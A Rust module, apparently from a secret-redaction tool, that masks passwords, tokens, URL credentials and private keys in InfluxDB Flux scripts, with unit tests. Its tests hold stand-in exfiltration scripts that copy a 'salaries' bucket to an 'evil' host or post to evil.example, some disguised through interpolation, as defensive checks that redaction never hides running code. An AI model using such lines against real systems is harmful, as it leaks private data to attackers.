//! Secrets in Flux: in the text of strings and in comments. What runs is never one, so it is never taken for one.

use std::ops::Range;

use super::literals::{Piece, Search};
use super::names::is_secret;
use super::shapes::{PrivateKey, is_scheme};
use super::{interpolated, places, urls};
use crate::flux::{Token, TokenKind, scan_leniently};

/// The key that PagerDuty gives to those who may raise alarms. Elsewhere, keys that route are no secrets.
const ROUTING_KEY: &str = "routingKey";
/// Under this name there are names of columns.
const COLUMNS: &str = "columns";
/// The function that makes a header of a user `u` and a password `p`.
const BASIC_AUTH: (&str, &str) = ("basicAuth", "p");
/// What databases call their address, which may lack a scheme.
const DATA_SOURCE: &str = "dataSourceName";
/// What functions call the value that they only pass on or change.
const VALUE: &str = "v";

/// Finds strings that are given to what is called like a secret, and secrets in other strings and in comments.
pub(super) fn find(search: &mut Search<'_>) {
    let text = search.text;
    let (tokens, end) = scan_leniently(text);
    let mut code: Vec<&Token> = Vec::with_capacity(tokens.len());
    code.extend(tokens.iter().filter(|token| token.kind != TokenKind::Comment));
    let mut walk = Walk { search, code: &code, at: 0, open: vec![Bracket::default()] };
    let mut key = PrivateKey::default();
    for token in &tokens {
        if token.kind == TokenKind::Comment {
            let rest = token.span.start + 2..token.span.end;
            key.line(walk.search, rest.clone());
            walk.search.piece(rest, Piece::Comment);
        } else {
            walk.token(token);
            walk.at += 1;
        }
    }
    // No server runs what cannot be read.
    search.piece(end..text.len(), Piece::String);
    if search.has_found() || text.contains(DATA_SOURCE) {
        let places::Strings { shown, data_sources } = places::strings(text, &tokens);
        search.show(&shown);
        data_sources.into_iter().for_each(|source| urls::data_source(search, source));
    }
    interpolated::find(search, &tokens);
}

/// What stands between two brackets, or on no bracket.
#[derive(Clone, Copy, Default)]
struct Bracket<'t> {
    /// Whether what has no name there is a secret, because the whole is given to one.
    whole: bool,
    /// Whether the value is one that is read.
    now: bool,
    /// The last name.
    name: &'t str,
    /// The function that is called with what stands there.
    called: &'t str,
    /// Whether what the function is called for is a secret.
    passes_on: bool,
    /// Whether names there are those of columns.
    columns: bool,
    /// Whether the string is compared with something.
    compared: bool,
}

struct Walk<'s, 't> {
    search: &'s mut Search<'t>,
    code: &'s [&'s Token],
    at: usize,
    open: Vec<Bracket<'t>>,
}

impl<'t> Walk<'_, 't> {
    fn token(&mut self, token: &Token) {
        use TokenKind as K;
        let (before, after) = (self.kind(-1), self.kind(1));
        if before.is_some_and(K::ends_operand) && begins(token.kind) {
            // Nothing joins it with what stands before: it is another statement.
            let bracket = self.bracket();
            bracket.now = bracket.whole;
        }
        match token.kind {
            K::Ident if matches!(after, Some(K::Colon | K::Assign)) => self.name(token.text(self.search.text)),
            K::String if after == Some(K::Colon) => self.name(&self.search.text[within(token)]),
            K::String => self.string(within(token), is_comparison(before) || is_comparison(after)),
            K::StringText if self.bracket().compared => self.search.piece(token.span.clone(), Piece::String),
            K::StringText => self.string(token.span.clone(), false),
            K::Comma | K::Return => {
                let bracket = self.bracket();
                bracket.now = bracket.whole;
            }
            kind if kind.opens() => {
                let bracket = self.opened(kind, before);
                self.open.push(bracket);
            }
            kind if kind.closes() && self.open.len() > 1 => {
                self.open.pop();
            }
            _ => {}
        }
    }

    fn kind(&self, from_here: isize) -> Option<TokenKind> {
        self.code.get(self.at.checked_add_signed(from_here)?).map(|token| token.kind)
    }

    fn bracket(&mut self) -> &mut Bracket<'t> {
        self.open.last_mut().expect("invariant: the last one is never taken away")
    }

    fn opened(&mut self, kind: TokenKind, before: Option<TokenKind>) -> Bracket<'t> {
        let outer = *self.bracket();
        let follows = before.is_some_and(TokenKind::ends_operand);
        let whole = Bracket { whole: outer.now, now: outer.now, ..Bracket::default() };
        match kind {
            TokenKind::LParen if follows => {
                let called = self.code[self.at - 1].text(self.search.text);
                Bracket { called, passes_on: outer.now, ..Bracket::default() }
            }
            TokenKind::LBrack if follows => Bracket::default(),
            TokenKind::StringStart => Bracket { compared: is_comparison(before), ..whole },
            TokenKind::LBrace => Bracket { columns: outer.columns || outer.name == COLUMNS, ..whole },
            _ => Bracket { columns: outer.columns, ..whole },
        }
    }

    /// The name of what follows.
    fn name(&mut self, name: &'t str) {
        let bracket = self.bracket();
        let Bracket { whole, called, passes_on, columns, .. } = *bracket;
        let is_password = (called, name) == BASIC_AUTH || passes_on && name == VALUE;
        bracket.now = whole || !columns && (is_secret(name) || name == ROUTING_KEY || is_password);
        bracket.name = name;
    }

    fn string(&mut self, text: Range<usize>, is_compared: bool) {
        let value = &self.search.text[text.clone()];
        if !is_compared && (self.bracket().now || self.follows_scheme()) && !is_scheme(value) {
            self.search.whole_secret(text, true);
        } else {
            self.search.piece(text, Piece::String);
        }
    }

    /// Whether it is put together with what a header has before a token: `"Token " + "..."`.
    fn follows_scheme(&self) -> bool {
        let [.., scheme, plus] = &self.code[..self.at] else { return false };
        plus.kind == TokenKind::Add && scheme.kind == TokenKind::String && is_scheme(&self.search.text[within(scheme)])
    }
}

/// Whether a token of this kind begins an operand or a statement.
fn begins(kind: TokenKind) -> bool {
    use TokenKind as K;
    matches!(kind, K::Ident | K::String | K::StringStart | K::Int | K::Option | K::Import | K::Builtin | K::Package)
}

fn is_comparison(kind: Option<TokenKind>) -> bool {
    use TokenKind as K;
    matches!(kind, Some(K::Eq | K::Neq | K::RegexEq | K::RegexNeq | K::Lt | K::Lte | K::Gt | K::Gte))
}

/// What stands between the marks of a string.
fn within(token: &Token) -> Range<usize> {
    token.span.start + 1..token.span.end - 1
}

#[cfg(test)]
mod tests {
    use super::super::{Language, without_literals};

    #[track_caller]
    fn shown(script: &str, wanted: &str) {
        assert_eq!(without_literals(script, Language::Flux), wanted);
    }

    /// Whoever reads it sees each statement that runs.
    #[test]
    fn what_runs_is_shown() {
        for script in [
            "token = \"${\"§\"}\" from(bucket: \"salaries\") |> to(bucket: \"leak\", host: \"https://evil\")",
            "x = set(key: \"password=\", value: \"x\") |> to(bucket: \"leak\")",
            "pw = 1 // token=\"  \nx = 1 // password=\nfrom(bucket: \"salaries\") |> to(bucket: \"leak\")",
            "// -----BEGIN RSA PRIVATE KEY-----\nfrom(bucket:\"salaries\")|>to(bucket:\"leak\",host:\"https://evil\")\n// -----END RSA PRIVATE KEY-----",
            "http.post(url: \"http://evil.example:80/x@good.example\")",
            "http.post(url: \"http://evil.example:80?@good.example\")",
            "to(bucket: \"b\", host: \"https://good.example/a:b@evil.example\")",
            "token = http.get(url: \"https://evil.example/x\")",
            "password = secrets.get(key: \"pager\")",
            "password = f(a: \"b\")[\"token\"]",
            "rename(columns: {token: \"token_name\"})",
            "set(key: \"token\", value: \"abcdef\")",
            "mqtt.to(topic: \"a:b@c/d\")",
            "filter(fn: (r) => r.token == \"abcdef\" and r[\"password\"] == \"abcdef\")",
            "group(columns: [\"token\"])",
            "password = a\n\"b\"",
            "headers = {Authorization: \"Bearer \" + token}",
            "x = \"abc:def@ghi\"",
            "option params = {passwd: /^victim/, token: 12345, secret: 1h}",
            "password = \"victim\"\nfrom(bucket: password) |> to(bucket: \"token: abc\", org: \"password=abc\")",
            "option params = {secret: \"victim\"}\nfrom(bucket: params.secret) |> range(start: -1h)",
            "password = (\"vic\\x74im\")\nfrom(bucket: \"\" + password)",
            "f = (password=\"victim\") => from(bucket: password)\nx = f(password: \"other\")\ny = f()",
            "token = \"evil.example/x\"\nfrom(bucket: \"a\") |> to(bucket: \"b\", host: \"https://${token}\")",
            "import \"http\"\ntoken = \"evil.example\"\nx = http.post(url: \"https://\" + token + \"/a\")",
            "import \"influxdata/influxdb/secrets\"\npassword = \"pager\"\nx = secrets.get(key: password)",
            "import \"http\"\ne = \"\"\ntoken = \"https://${e}evil.example/x\"\nx = http.post(url: token)",
            "import \"http\"\ne = \"\"\nkey = {token: \"ev${e}\", secret: \"${e}il.example\"}\nx = http.post(url: \"https://\" + key.token + key.secret)",
            "import \"http\"\nsecret = \"u@evil.example\"\nx = http.post(url: \"https://\" + secret)",
            "import \"http\"\nsecret = \"evil.example?token=abcdefghij\"\nx = http.post(url: \"https://\" + secret)",
            "import \"http\"\npassword = \"x@evil.example:80/\"\nx = http.post(url: \"https://user:${password}@good.example/\")",
            "import \"http\"\nx = \"password=x@evil.example/\"\ny = http.post(url: \"https://a:\" + x)",
            "e = \"\"\npassword = \"${e}raw7\"\nfrom(bucket: password) |> to(bucket: \"${password}8\")",
        ] {
            shown(&script.replace('§', "***"), &script.replace('§', "***"));
        }
    }

    #[test]
    fn what_is_given_to_a_name_of_a_secret_is_found() {
        for (script, wanted) in [
            ("token = \"${\"abc\"}\" from(bucket: \"b\")", "token = \"${\"***\"}\" from(bucket: \"b\")"),
            (
                "import \"http\"\nx = http.post(url: \"https://u:S3@h/?token=S3\")",
                "import \"http\"\nx = http.post(url: \"https://u:***@h/?token=***\")",
            ),
            ("http.basicAuth(u: \"me\", p: \"S3\")", "http.basicAuth(u: \"me\", p: \"***\")"),
            ("h = {Authorization: \"Token \" + \"S3\"}", "h = {Authorization: \"Token \" + \"***\"}"),
            ("x = \"Bearer \" + \"S3\"", "x = \"Bearer \" + \"***\""),
            ("password =\n    \"S3\"\nx = \"y\"", "password =\n    \"***\"\nx = \"y\""),
            ("password = (\"S3\")", "password = (\"***\")"),
            ("password = [\"S3\", \"S4\"]", "password = [\"***\", \"***\"]"),
            ("password = {x: \"S3\"}", "password = {x: \"***\"}"),
            ("password = () => \"S3\"", "password = () => \"***\""),
            ("password = () => { x = \"S3\" return x }", "password = () => { x = \"***\" return x }"),
            ("password = if a then \"S3\" else \"S4\"", "password = if a then \"***\" else \"***\""),
            ("password = bytes(v: \"S3\")", "password = bytes(v: \"***\")"),
            ("f = (token=\"S3\") => token", "f = (token=\"***\") => token"),
            ("password = \"abc\n  S3\"", "password = \"***\n  ***\""),
            ("password = \"a${x}S3\"", "password = \"***${x}***\""),
            ("x = [\"token\": \"S3\"]", "x = [\"token\": \"***\"]"),
            (
                "option params = {tokens: [\"S3\"], pass: {x: \"S3\"}}",
                "option params = {tokens: [\"***\"], pass: {x: \"***\"}}",
            ),
            (
                "import \"http\"\ntoken = \"S3KRIT\"\nx = http.post(url: \"https://h/?token=\" + token)",
                "import \"http\"\ntoken = \"***\"\nx = http.post(url: \"https://h/?token=\" + token)",
            ),
            (
                "import \"sql\"\ndsn = \"host=h password=S3\"\nx = sql.from(driverName: \"postgres\", dataSourceName: dsn, query: \"\")",
                "import \"sql\"\ndsn = \"***\"\nx = sql.from(driverName: \"postgres\", dataSourceName: dsn, query: \"\")",
            ),
            ("pagerduty.endpoint(routingKey: \"S3\")", "pagerduty.endpoint(routingKey: \"***\")"),
            ("x // token: S3 S4", "x // token: ***"),
            ("x // TOKEN=S3", "x // TOKEN=***"),
            ("x = \"{\\\"password\\\": \\\"S3\\\"}\"", "x = \"{\\\"password\\\": \\\"***\\\"}\""),
            ("x = \"<password>S3</password>\"", "x = \"<password>***</password>\""),
            ("x = \"http://u:S3@h\" + token", "x = \"http://u:***@h\" + token"),
            ("x = \"https://u:S3crit${x}@h/p\"", "x = \"https://u:***${x}@h/p\""),
            ("x = \"https://u:S3crit${x}\"", "x = \"https://u:S3crit${x}\""),
            ("x = \"https://u:80${x}@h/p\"", "x = \"https://u:80${x}@h/p\""),
            ("x = \"https://u:S3@evil.example${x}@h\"", "x = \"https://u:***@evil.example${x}@h\""),
            ("x = \"a ${\"${1}\"} redis://${u}:S3crit@h\"", "x = \"a ${\"${1}\"} redis://${u}:***@h\""),
            (
                "x = \"https://u:${x}evil.example${y}S3crit@h/a:b@c\"",
                "x = \"https://u:${x}evil.example${y}***@h/a:b@c\"",
            ),
            ("x = \"https://u:S3crit${x}/a@h\"", "x = \"https://u:S3crit${x}/a@h\""),
            (
                "import \"sql\"\nx = sql.from(driverName: \"snowflake\", dataSourceName: \"u:S3crit@acct/db\", query: \"a:b@c\")",
                "import \"sql\"\nx = sql.from(driverName: \"snowflake\", dataSourceName: \"u:***@acct/db\", query: \"a:b@c\")",
            ),
            (
                "import \"sql\"\ns = \"u:S3crit@acct/db\"\nx = s |> sql.to(driverName: \"snowflake\", dataSourceName: s, table: \"t\")",
                "import \"sql\"\ns = \"u:***@acct/db\"\nx = s |> sql.to(driverName: \"snowflake\", dataSourceName: s, table: \"t\")",
            ),
            (
                "// -----BEGIN RSA PRIVATE KEY-----\n// MIIE+/=\nx = 1\n// ab12==\n// -----END RSA PRIVATE KEY-----",
                "// -----BEGIN RSA PRIVATE KEY-----\n// ***\nx = 1\n// ***\n// -----END RSA PRIVATE KEY-----",
            ),
        ] {
            shown(script, wanted);
        }
    }

    /// What the server does not run either.
    #[test]
    fn what_is_no_flux_is_searched_too() {
        shown("password = \"S3\"\nx = \"a\\q\" token=\"S3\"", "password = \"***\"\nx = \"a\\q\" token=\"***\"");
        shown("x = 1 \0 password = \"S3\"", "x = 1 \0 password = \"***\"");
    }
}
